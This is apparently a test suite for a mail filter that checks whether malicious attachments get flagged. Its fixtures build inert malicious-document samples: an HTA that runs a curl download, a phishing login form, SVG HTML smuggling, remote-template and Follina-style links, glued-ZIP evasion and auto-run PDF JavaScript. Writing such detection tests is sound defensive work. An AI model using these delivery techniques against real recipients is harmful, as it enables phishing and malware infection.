"""Attachments looked into, over SMTP: RAR, 7z, tar, gzip archives and ISO
images are listed from their own directories and archives inside archives
opened (docs/content.md, "Archives"), Office documents are checked for
macros, and web pages and PDFs for what they would do when opened.  The 7z archives are made by 7-Zip
itself, tar, gzip and ZIP by Python's tarfile, gzip and zipfile, RAR by
rarbuild.py and OLE files by olebuild.py (both checked here against
independent readers: libarchive's bsdtar, python3-olefile)."""
import gzip
import io
import struct
import subprocess
import tarfile
import uuid
import zipfile
import zlib

import docx
import docx.opc.constants
import olefile
import xlrd
import xlwt

import mwtest
import olebuild
import rarbuild
from mwtest import token


def sevenzip(tmp_path, name, files, *opts):
    """A 7z archive of files {name: bytes} made by 7-Zip (7zz)."""
    src = tmp_path / f"src-{name}"
    src.mkdir()
    for n, data in files.items():
        (src / n).write_bytes(data)
    out = tmp_path / name
    subprocess.run(["7zz", "a", "-bd", "-y", *opts, str(out), *files], cwd=src, check=True,
                   stdout=subprocess.DEVNULL)
    return out.read_bytes()


def iso_image(tmp_path, name, files):
    """An ISO 9660 image with Joliet names of files {name: bytes}, made by
    libarchive (bsdtar --format iso9660)."""
    src = tmp_path / f"iso-{name}"
    src.mkdir()
    for n, data in files.items():
        (src / n).parent.mkdir(parents=True, exist_ok=True)
        (src / n).write_bytes(data)
    out = tmp_path / name
    subprocess.run(["bsdtar", "--format", "iso9660", "-cf", str(out), "-C", str(src), "."], check=True)
    return out.read_bytes()


def tar_bytes(files):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w", format=tarfile.PAX_FORMAT) as t:
        for n, data in files.items():
            info = tarfile.TarInfo(n)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return b.getvalue()


def gzip_bytes(name, data):
    b = io.BytesIO()
    with gzip.GzipFile(filename=name, mode="wb", fileobj=b, mtime=0) as g:
        g.write(data)
    return b.getvalue()


def send_all(srv, sink, cases, ctype="application/octet-stream"):
    """Each case {key: (filename, bytes)} as an attachment in one session:
    the refs of their 250 replies, and the messages as delivered."""
    toks = {k: token() for k in cases}
    refs = {}
    with srv.session() as c:
        for k, (fn, data) in cases.items():
            r = c.send_mail("a@example.org", ["alice@acme.test"],
                            mwtest.attachment_message(toks[k], fn, data, ctype))
            assert r.code == 250, (k, r.raw)
            refs[k] = r.ref()
        c.cmd("QUIT", 221)
    return refs, {k: sink.wait_for(t)[0] for k, t in toks.items()}


def verdict(srv, ref):
    """The logged record of ref and its symbols' reasons by name."""
    rec = srv.log_search("--ref", ref)[0]
    return rec, {x["name"]: x["reason"] for x in rec["symbols"]}


def test_rar_builder_writes_what_libarchive_reads(tmp_path):
    """The hand-built RAR archives are real ones: bsdtar lists the same
    members (so the listing below is tested on archives as RAR writes them)."""
    members = [(b"readme.txt", b"hello\n", False), (b"dir/\xc3\xa9t\xc3\xa9.pdf.exe", b"MZ", False)]
    for build in (rarbuild.rar4, rarbuild.rar5):
        p = tmp_path / "t.rar"
        p.write_bytes(build(members))
        out = subprocess.run(["bsdtar", "-tf", str(p)], capture_output=True, check=True).stdout
        assert out.decode().split("\n")[:2] == ["readme.txt", "dir/été.pdf.exe"], out


def test_archive_kinds_are_listed(make_server, sink, tmp_path):
    """Under a tenant at tag 80 / probable_spam 90: an executable inside a
    RAR, 7z, tar, gzip or ISO image is named; a password-protected 7z or RAR, and one
    whose member list is encrypted, is tagged (never clean, M21); the same
    documents unencrypted are clean."""
    exe = b"MZ\x90\x00" + b"\0" * 60
    docs = {"report.pdf": b"%PDF-1.4\n" + b"x" * 200, "notes.txt": b"minutes\n" * 20}
    cases = {
        "rar_exe": ("invoice.rar", rarbuild.rar5([(b"readme.txt", b"hi\n", False),
                                                  (b"invoice.pdf.exe", exe, False)])),
        "7z_exe": ("invoice.7z", sevenzip(tmp_path, "exe.7z", {"invoice.pdf.exe": exe, **docs})),
        "tar_exe": ("update.tar", tar_bytes({"payload/update.scr": exe, **docs})),
        "gz_exe": ("scan.gz", gzip_bytes("scan_0042.pdf.exe", exe)),
        "iso_lnk": ("Invoice_0042.img", iso_image(tmp_path, "inv.iso", {
            "Invoice 0042.pdf.lnk": b"L\0\0\0" + b"\0" * 60, "data/readme.txt": b"hi\n"})),
        "7z_enc": ("secure.7z", sevenzip(tmp_path, "enc.7z", docs, "-pSecret1")),
        "7z_hidden": ("secure2.7z", sevenzip(tmp_path, "hid.7z", docs, "-pSecret1", "-mhe=on")),
        "rar_hidden": ("old.rar", rarbuild.rar4([], header_password=True)),
        "7z_docs": ("report.7z", sevenzip(tmp_path, "docs.7z", docs)),
        "rar_docs": ("report.rar", rarbuild.rar4([(n.encode(), d, False) for n, d in docs.items()])),
    }
    srv = make_server(sink=sink)
    srv.cli("tenant", "set", "acme", "tag=80", "probable_spam=90")
    refs, got = send_all(srv, sink, cases)

    for k, holding in (("rar_exe", "invoice.pdf.exe"), ("7z_exe", "invoice.pdf.exe"),
                       ("tar_exe", "payload/update.scr"), ("gz_exe", "scan_0042.pdf.exe"),
                       ("iso_lnk", "Invoice 0042.pdf.lnk")):
        _, sy = verdict(srv, refs[k])
        assert f'is an archive holding "{holding}"' in sy.get("EXE_ATTACHMENT", ""), (k, sy)

    for k, says in (("7z_enc", "(2 of 2 members encrypted)"),
                     ("7z_hidden", "list of members is encrypted too"),
                     ("rar_hidden", "list of members is encrypted too")):
        rec, sy = verdict(srv, refs[k])
        assert says in sy.get("ARCHIVE_UNSCANNABLE", ""), (k, sy)
        assert rec["class"] == "possible-spam" and rec["score"] < 80, (k, rec)
        assert got[k].header("X-Mailward-Spam") == "yes", (k, got[k].data[:800])

    for k in ("7z_docs", "rar_docs"):
        rec, sy = verdict(srv, refs[k])
        assert rec["class"] == "clean", (k, rec)
        assert not {"EXE_ATTACHMENT", "ARCHIVE_UNSCANNABLE"} & set(sy), (k, sy)
        assert got[k].header("X-Mailward-Spam") is None


def test_ole_builder_writes_what_olefile_reads():
    data = olebuild.ole([("WordDocument", 2, -1), ("Macros", 1, -1), ("VBA", 1, 1)])
    o = olefile.OleFileIO(io.BytesIO(data))
    assert sorted(o.listdir(streams=True, storages=True)) == [["Macros"], ["Macros", "VBA"],
                                                              ["WordDocument"]]


def test_office_macros(make_server, sink):
    """A .doc with a VBA project and a .docm are named OFFICE_MACRO in the
    log and the delivered message's symbols; a plain .doc and .docx are not."""
    def package(macros):
        b = io.BytesIO()
        with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr("[Content_Types].xml", "<Types/>")
            z.writestr("word/document.xml", "<w:document/>")
            if macros:
                z.writestr("word/vbaProject.bin", olebuild.ole([("VBA", 1, -1)]))
        return b.getvalue()

    cases = {
        "doc_macro": ("order.doc", olebuild.ole([("WordDocument", 2, -1), ("Macros", 1, -1),
                                                 ("VBA", 1, 1)])),
        "docm": ("order.docm", package(True)),
        "doc_plain": ("minutes.doc", olebuild.ole([("WordDocument", 2, -1), ("1Table", 2, -1)])),
        "docx": ("minutes.docx", package(False)),
    }
    srv = make_server(sink=sink)
    refs, got = send_all(srv, sink, cases, "application/msword")
    for k, (fn, _) in cases.items():
        _, sy = verdict(srv, refs[k])
        if k in ("doc_macro", "docm"):
            assert f'"{fn}" is an Office document with macros' in sy.get("OFFICE_MACRO", ""), (k, sy)
            assert "OFFICE_MACRO" in got[k].header("X-Mailward-Symbols"), k
        else:
            assert "OFFICE_MACRO" not in sy, (k, sy)


def test_office_xlm_and_encrypted(make_server, sink):
    """At the default thresholds: a workbook written by xlwt whose second
    sheet is made a very hidden Excel 4.0 macro sheet (xlrd reads it as
    one) is named OFFICE_MACRO with what hides it; the workbook as written
    is not.  An encrypted Office document (the compound file of an
    encrypted .docx, which olefile reads) is ARCHIVE_UNSCANNABLE and never
    clean: tagged, delivered."""
    xlm = olebuild.xls_macro_sheet(hidden=2)
    log = io.StringIO()
    book = xlrd.open_workbook(file_contents=xlm, verbosity=1, logfile=log)
    assert "'Macro1' (type 0x01 = Macro sheet)" in log.getvalue() and book.sheet_names() == ["Invoice"]
    plain = io.BytesIO()
    wb = xlwt.Workbook()
    wb.add_sheet("Invoice").write(0, 0, "Total")
    wb.add_sheet("Rates").write(0, 0, 1.5)
    wb.save(plain)
    info = b"\x04\x00\x04\x00\x40\x00\x00\x00<?xml version=\"1.0\"?><encryption/>"
    enc = olebuild.ole_streams([("EncryptionInfo", info),
                                ("EncryptedPackage", (6000).to_bytes(8, "little") + bytes(6000))])
    assert olefile.OleFileIO(enc).exists("EncryptedPackage")
    cases = {"xlm": ("Invoice_0042.xls", xlm), "plain": ("rates.xls", plain.getvalue()),
             "enc": ("payslip.docx", enc)}
    srv = make_server(sink=sink)
    refs, got = send_all(srv, sink, cases, "application/vnd.ms-excel")
    _, sy = verdict(srv, refs["xlm"])
    assert '"Invoice_0042.xls" is an Office document with macros (a hidden Excel 4.0 macro sheet)' in sy.get(
        "OFFICE_MACRO", ""), sy
    assert "OFFICE_MACRO" in got["xlm"].header("X-Mailward-Symbols")
    rec, sy = verdict(srv, refs["plain"])
    assert not {"OFFICE_MACRO", "ARCHIVE_UNSCANNABLE"} & set(sy), sy
    rec, sy = verdict(srv, refs["enc"])
    assert "is an Office document encrypted with a password" in sy.get("ARCHIVE_UNSCANNABLE", ""), sy
    assert rec["class"] == "possible-spam", rec
    assert got["enc"].header("X-Mailward-Spam") == "yes"


def rtf_with_object(cls, native, kw="\\objemb", objclass=None):
    """An RTF document with one OLE object: its OLE1 header ([MS-OLEDS]
    2.2.4: version, embedded, class name, empty topic and item, native
    data) as \\objdata hex, broken into lines and padded with blanks and a
    control word the way droppers write it."""
    def lp(b):
        return struct.pack("<I", len(b) + 1) + b + b"\0"
    ole1 = struct.pack("<II", 0x0501, 2) + lp(cls.encode()) + struct.pack("<II", 0, 0)
    ole1 += struct.pack("<I", len(native)) + native
    hx = ole1.hex()
    body = " \\par\r\n".join(hx[i:i + 61] for i in range(0, len(hx), 61))
    head = "{\\*\\objclass %s}" % objclass if objclass else ""
    return ("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Calibri;}}\\pard Please see the order.\\par\r\n"
            "{\\object%s%s{\\*\\objdata\r\n%s}{\\result{\\pict\\wmetafile8 0100}}}\\par}\r\n"
            % (kw, head, body)).encode()


def test_rtf_objects(make_server, sink):
    """At the default thresholds: an RTF sent as .doc whose object is the
    Equation Editor's (by its compound file's class id, the names
    mangled) is OLE_EXPLOIT_OBJECT, and so are a .docx (python-docx) and a
    .doc embedding that object; an RTF whose Packager object carries a
    program is EXE_ATTACHMENT; an RTF with a chart object is neither.
    olefile reads the compound files."""
    eq = olebuild.ole_streams([("Equation Native", bytes([0x1C, 0, 0, 0, 2, 0]) + bytes(22))])
    eq = bytearray(eq)
    eq[1024 + 0x50:1024 + 0x60] = bytes.fromhex("02ce020000000000c000000000000046")
    ole = olefile.OleFileIO(bytes(eq))
    assert ole.exists("Equation Native") and ole.root.clsid == "0002CE02-0000-0000-C000-000000000046"
    chart = olebuild.ole_streams([("Workbook", bytes(64))])
    pkg = b"\x02\x00Scan_0042.pdf.exe\0C:\\Users\\a\\Scan_0042.pdf.exe\0\0\0" + b"MZ" + bytes(62)
    cases = {
        "equation": ("Order_7731.doc", rtf_with_object("x7", bytes(eq), "\\objemb\\objupdate", "Word.Document.8")),
        "package": ("Scan.rtf", rtf_with_object("Package", pkg)),
        "chart": ("report.rtf", rtf_with_object("Excel.Sheet.8", chart, objclass="Excel.Sheet.8")),
    }
    # The same object embedded in a .docx written by python-docx, and in a
    # legacy .doc's ObjectPool.
    plain = io.BytesIO()
    d = docx.Document()
    d.add_paragraph("Order 7731")
    d.save(plain)
    with zipfile.ZipFile(plain, "a") as z:
        z.writestr("word/embeddings/oleObject1.bin", bytes(eq))
    doc = bytearray(olebuild.ole([("WordDocument", 2, -1), ("ObjectPool", 1, -1), ("_1234567890", 1, 1)]))
    doc[1024 + 3 * 128 + 0x50:1024 + 3 * 128 + 0x60] = bytes.fromhex("02ce020000000000c000000000000046")
    assert olefile.OleFileIO(bytes(doc)).getclsid("ObjectPool/_1234567890") == ole.root.clsid
    cases["docx"] = ("Order_7731.docx", plain.getvalue())
    cases["doc"] = ("Order_7732.doc", bytes(doc))
    srv = make_server(sink=sink)
    refs, got = send_all(srv, sink, cases, "application/msword")
    for k in ("docx", "doc"):
        _, sy = verdict(srv, refs[k])
        assert f'"{cases[k][0]}" is an Office document with an Equation Editor object' in sy.get(
            "OLE_EXPLOIT_OBJECT", ""), (k, sy)
    _, sy = verdict(srv, refs["equation"])
    assert '"Order_7731.doc" is an RTF document with an Equation Editor object' in sy.get("OLE_EXPLOIT_OBJECT", ""), sy
    assert "set to load when the document opens" in sy["OLE_EXPLOIT_OBJECT"]
    assert "OLE_EXPLOIT_OBJECT" in got["equation"].header("X-Mailward-Symbols")
    _, sy = verdict(srv, refs["package"])
    assert 'carrying "Scan_0042.pdf.exe" as an object' in sy.get("EXE_ATTACHMENT", ""), sy
    rec, sy = verdict(srv, refs["chart"])
    assert not {"OLE_EXPLOIT_OBJECT", "EXE_ATTACHMENT"} & set(sy), sy
    assert rec["class"] == "clean", rec


def onenote(*files):
    """A OneNote section as [MS-ONESTORE] lays out what matters here: the
    file type GUID heading a 1 KiB header, then each embedded file in a
    FileDataStoreObject (header GUID, length, reserved, data, padding,
    footer GUID)."""
    out = uuid.UUID("7B5C52E4-D88C-4DA7-AEB1-5378D02996D3").bytes_le.ljust(1024, b"\0")
    for f in files:
        out += bytes(40) + uuid.UUID("BDE316E7-2665-4511-A4C4-8D4D0B7A9EAC").bytes_le
        out += struct.pack("<QIQ", len(f), 0, 0) + f + bytes(-len(f) % 8)
        out += uuid.UUID("71FBA722-0F79-4A0B-BB13-899256426B24").bytes_le
    return out


def test_launcher_names_and_shortcuts(make_server, sink):
    """At the default thresholds: a help file, an Excel add-in, a search
    connector, an Internet shortcut to a WebDAV share, a shell link named
    like a PDF and a OneNote section carrying an .hta are EXE_ATTACHMENT;
    a shortcut to a web page, VHDL source (.vhd) and a OneNote section
    carrying a PDF are clean."""
    hta = (b'<html><head><HTA:APPLICATION /><script language="VBScript">'
           b'CreateObject("WScript.Shell").Run "cmd /c curl -o %TEMP%\\a.exe"</script></head></html>')
    lnk = struct.pack("<I", 0x4C) + uuid.UUID("00021401-0000-0000-C000-000000000046").bytes_le + bytes(56)
    cases = {
        "onenote": ("Invoice_0042.one", onenote(b"%PDF-1.4\n", hta)),
        "notebook": ("Minutes.one", onenote(b"%PDF-1.4\n" + bytes(100))),
        "lnk": ("Invoice.pdf", lnk),
        "chm": ("manual.chm", b"ITSF\x03\x00\x00\x00" + bytes(88)),
        "xll": ("Q3 figures.xll", bytes(16) + b"add-in"),
        "search": ("Shared.search-ms", b'<?xml version="1.0"?><searchConnectorDescription/>'),
        "share": ("Invoice.url", b"[InternetShortcut]\r\nURL=file://198.51.100.7@80/share/Invoice.pdf.js\r\n"),
        "web": ("Agenda.url", b"[InternetShortcut]\r\nURL=https://intranet.example.org/agenda\r\n"),
        "vhdl": ("counter.vhd", b"library ieee;\nuse ieee.std_logic_1164.all;\nentity counter is end;\n"),
    }
    srv = make_server(sink=sink)
    refs, got = send_all(srv, sink, cases)
    for k, ext in (("chm", "chm"), ("xll", "xll"), ("search", "search-ms")):
        _, sy = verdict(srv, refs[k])
        assert f"has an executable name (.{ext})" in sy.get("EXE_ATTACHMENT", ""), (k, sy)
    _, sy = verdict(srv, refs["share"])
    assert '"Invoice.url" is a Windows shortcut to file://198.51.100.7@80/share/Invoice.pdf.js' in sy.get(
        "EXE_ATTACHMENT", ""), sy
    assert got["share"].header("X-Mailward-Spam") == "yes"
    _, sy = verdict(srv, refs["onenote"])
    assert '"Invoice_0042.one" is a OneNote section carrying a script' in sy.get("EXE_ATTACHMENT", ""), sy
    _, sy = verdict(srv, refs["lnk"])
    assert '"Invoice.pdf" is a Windows shortcut (a shell link)' in sy.get("EXE_ATTACHMENT", ""), sy
    for k in ("web", "vhdl", "notebook"):
        rec, sy = verdict(srv, refs[k])
        assert "EXE_ATTACHMENT" not in sy and rec["class"] == "clean", (k, rec)


REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def docx_linking(template=None, ole_object=None, hyperlink=None):
    """A .docx written by python-docx, its settings relating a template
    and its document an OLE object and a hyperlink, each External."""
    d = docx.Document()
    d.add_paragraph("Contract draft: please review the attached terms.")
    if template:
        d.part.part_related_by(docx.opc.constants.RELATIONSHIP_TYPE.SETTINGS).relate_to(
            template, REL + "attachedTemplate", is_external=True)
    if ole_object:
        d.part.relate_to(ole_object, REL + "oleObject", is_external=True)
    if hyperlink:
        d.part.relate_to(hyperlink, REL + "hyperlink", is_external=True)
    out = io.BytesIO()
    d.save(out)
    return out.getvalue()


def test_office_remote_content(make_server, sink):
    """At the default thresholds: .docx files written by python-docx that
    load their template (template injection) or an OLE object (Follina's
    form) from the web are OFFICE_REMOTE_CONTENT with the address in the
    reason; one with a hyperlink and a template on disk is clean."""
    cases = {
        "template": ("Contract.docx", docx_linking(template="https://cdn.example.net/t.dotm")),
        "follina": ("Invoice.docx", docx_linking(ole_object="http://198.51.100.7/x.html!")),
        "plain": ("Minutes.docx", docx_linking(template="file:///C:/Users/a/Templates/Normal.dotm",
                                              hyperlink="https://example.org/agenda")),
    }
    srv = make_server(sink=sink)
    refs, got = send_all(srv, sink, cases,
                         "application/vnd.openxmlformats-officedocument.wordprocessingml.document")
    _, sy = verdict(srv, refs["template"])
    assert ('"Contract.docx" is an Office document that loads its template (template injection) '
            "from https://cdn.example.net/t.dotm when opened") in sy.get("OFFICE_REMOTE_CONTENT", ""), sy
    assert "OFFICE_REMOTE_CONTENT" in got["template"].header("X-Mailward-Symbols")
    _, sy = verdict(srv, refs["follina"])
    assert "loads an OLE object (as CVE-2021-40444 and CVE-2022-30190 do) from http://198.51.100.7/x.html!" in sy.get(
        "OFFICE_REMOTE_CONTENT", ""), sy
    rec, sy = verdict(srv, refs["plain"])
    assert "OFFICE_REMOTE_CONTENT" not in sy and rec["class"] == "clean", rec


def zip_of(files, method=zipfile.ZIP_DEFLATED):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", method) as z:
        for n, data in files.items():
            z.writestr(n, data)
    return b.getvalue()


def test_glued_zips(make_server, sink, tmp_path):
    """Two ZIPs written by zipfile and glued: 7-Zip lists the first (a
    program), Python's zipfile the last (a PDF) - the evasion.  Under a
    tenant at 80/90, mailward names the program and tags the archive as
    unscannable (never clean); a ZIP made by 7-Zip, and a ZIP with a
    comment, are neither."""
    front = zip_of({"invoice.pdf.exe": b"MZ\x90\x00" + bytes(200)})
    back = zip_of({"invoice.pdf": b"%PDF-1.4\n" + bytes(200)})
    glued = tmp_path / "glued.zip"
    glued.write_bytes(front + back)
    listed = subprocess.run(["7zz", "l", str(glued)], capture_output=True, text=True).stdout
    assert "invoice.pdf.exe" in listed
    assert zipfile.ZipFile(glued).namelist() == ["invoice.pdf"]
    (tmp_path / "q3.pdf").write_bytes(b"%PDF-1.4\n" + bytes(300))
    subprocess.run(["7zz", "a", "-tzip", str(tmp_path / "q3.zip"), str(tmp_path / "q3.pdf")],
                   check=True, capture_output=True)
    commented = io.BytesIO()
    with zipfile.ZipFile(commented, "w") as z:
        z.comment = b"PK\x03\x04 not a header"
        z.writestr("notes.txt", "hello")
    cases = {"glued": ("invoice.zip", glued.read_bytes()), "plain": ("q3.zip", (tmp_path / "q3.zip").read_bytes()),
             "comment": ("notes.zip", commented.getvalue())}
    srv = make_server(sink=sink)
    srv.cli("tenant", "set", "acme", "tag=80", "probable_spam=90")   # delivered, to be read
    refs, got = send_all(srv, sink, cases, "application/zip")
    rec, sy = verdict(srv, refs["glued"])
    assert 'holding "invoice.pdf.exe"' in sy.get("EXE_ATTACHMENT", ""), sy
    assert '"invoice.zip" is a ZIP that tools unpack differently' in sy.get("ARCHIVE_UNSCANNABLE", ""), sy
    assert rec["class"] == "possible-spam" and got["glued"].header("X-Mailward-Spam") == "yes", rec
    for k in ("plain", "comment"):
        rec, sy = verdict(srv, refs[k])
        assert not {"EXE_ATTACHMENT", "ARCHIVE_UNSCANNABLE"} & set(sy) and rec["class"] == "clean", (k, rec)


def test_archives_inside_archives(make_server, sink):
    """Under a tenant at 80/90: an executable in a ZIP inside a ZIP, or in
    a .tar.gz, is named with its path; an archive nested four deep is
    flagged and tagged (M18: never clean); a ZIP of documents inside a ZIP
    stays clean."""
    exe = b"MZ\x90\x00" + b"\0" * 60
    inner = zip_of({"invoice.pdf.exe": exe, "readme.txt": b"hello\n"})
    deep = inner
    for i in range(4):
        deep = zip_of({f"level{i}.zip": deep})
    tgz = io.BytesIO()
    with tarfile.open(fileobj=tgz, mode="w:gz") as t:
        for n, data in (("src/main.c", b"int main(void) { return 0; }\n"), ("bin/update.scr", exe)):
            info = tarfile.TarInfo(n)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    cases = {
        "zip_zip": ("scans.zip", zip_of({"scans/docs.zip": inner, "note.txt": b"see inside\n"})),
        "tgz": ("release.tar.gz", tgz.getvalue()),
        "deep": ("archive.zip", deep),
        "docs": ("reports.zip", zip_of({"q3.zip": zip_of({"q3.pdf": b"%PDF-1.4\n" + b"x" * 500})})),
    }
    srv = make_server(sink=sink)
    srv.cli("tenant", "set", "acme", "tag=80", "probable_spam=90")
    refs, got = send_all(srv, sink, cases)
    _, sy = verdict(srv, refs["zip_zip"])
    assert 'holding "scans/docs.zip/invoice.pdf.exe"' in sy.get("EXE_ATTACHMENT", ""), sy
    _, sy = verdict(srv, refs["tgz"])
    assert 'holding "bin/update.scr"' in sy.get("EXE_ATTACHMENT", ""), sy
    rec, sy = verdict(srv, refs["deep"])
    assert "nested too deep" in sy.get("ARCHIVE_UNSCANNABLE", ""), sy
    assert rec["class"] == "possible-spam" and rec["score"] < 80, rec
    assert got["deep"].header("X-Mailward-Spam") == "yes"
    rec, sy = verdict(srv, refs["docs"])
    assert rec["class"] == "clean" and not {"EXE_ATTACHMENT", "ARCHIVE_UNSCANNABLE"} & set(sy), rec


def test_html_attachments(make_server, sink):
    """A login page and a smuggling page sent as .htm/.svg files are named
    HTML_ATTACHMENT_PHISH in the log and the delivered symbols (the tenant's
    thresholds are high so that all are delivered); an HTML receipt is
    not, nor is a notebook exported as a page, whose head holds scripts
    (once an 8-point EXE_ATTACHMENT)."""
    padding = "<p>&nbsp;</p>" * 300            # the form comes after the first KiB
    cases = {
        "login": ("Remittance_0042.htm", (
            "<!DOCTYPE html><html><head><title>Sign in</title></head><body>" + padding +
            '<form method="post" action="https://collect.example.net/p.php">'
            '<input type="email" name="u"><input type="password" name="p">'
            "</form></body></html>").encode()),
        "smuggle": ("Statement.svg", (
            '<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA['
            "var d=atob('TVqQAA==');var b=new Blob([d]);var a=document.createElement('a');"
            "a.href=URL.createObjectURL(b);a.download='Statement.iso';a.click();"
            "]]></script></svg>").encode()),
        "receipt": ("receipt.html", b"<html><body><h1>Receipt</h1><table><tr><td>Total</td>"
                                    b"<td>12.00 EUR</td></tr></table></body></html>"),
        "notebook": ("churn.html", (
            '<!DOCTYPE html>\n<html>\n<head><meta charset="utf-8" />\n<title>churn</title>'
            '<script src="https://cdn.example.org/require.min.js"></script>\n'
            "<script>window.onload = function() { plot(eval('[3, 1, 4]')); };</script>\n"
            "</head><body><h1>Churn by region</h1><p>Dim regions are below target.</p>"
            "</body></html>\n").encode()),
    }
    srv = make_server(sink=sink)
    srv.cli("tenant", "set", "acme", "tag=80", "probable_spam=90")   # delivered, to be read
    refs, got = send_all(srv, sink, cases, "text/html")
    _, sy = verdict(srv, refs["login"])
    assert '"Remittance_0042.htm" is a web page that asks for a password' in sy.get(
        "HTML_ATTACHMENT_PHISH", ""), sy
    assert "HTML_ATTACHMENT_PHISH" in got["login"].header("X-Mailward-Symbols")
    _, sy = verdict(srv, refs["smuggle"])
    assert "assembles a file to download" in sy.get("HTML_ATTACHMENT_PHISH", ""), sy
    _, sy = verdict(srv, refs["receipt"])
    assert "HTML_ATTACHMENT_PHISH" not in sy, sy
    rec, sy = verdict(srv, refs["notebook"])
    assert not {"HTML_ATTACHMENT_PHISH", "EXE_ATTACHMENT"} & set(sy), sy
    assert rec["score"] < 8, rec                 # under the default tag


def test_pdf_active_content(make_server, sink):
    """A PDF that runs JavaScript when opened - its names hidden in a
    compressed object stream, as PDF malware does - is named
    PDF_ACTIVE_CONTENT; a plain PDF is not."""
    objs = b"2 0 << /S /JavaScript /JS (this.exportDataObject\\({cName: 'a.exe'}\\)) >>"
    z = zlib.compress(objs)
    active = (b"%PDF-1.5\n1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj\n"
              b"3 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
              + str(len(z)).encode() + b" >>\nstream\n" + z + b"\nendstream\nendobj\n%%EOF\n")
    plain = (b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
             b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n%%EOF\n")
    cases = {"active": ("statement.pdf", active), "plain": ("report.pdf", plain)}
    srv = make_server(sink=sink)
    refs, got = send_all(srv, sink, cases, "application/pdf")
    _, sy = verdict(srv, refs["active"])
    assert '"statement.pdf" is a PDF that runs JavaScript when opened' in sy.get(
        "PDF_ACTIVE_CONTENT", ""), sy
    assert "PDF_ACTIVE_CONTENT" in got["active"].header("X-Mailward-Symbols")
    _, sy = verdict(srv, refs["plain"])
    assert "PDF_ACTIVE_CONTENT" not in sy, sy
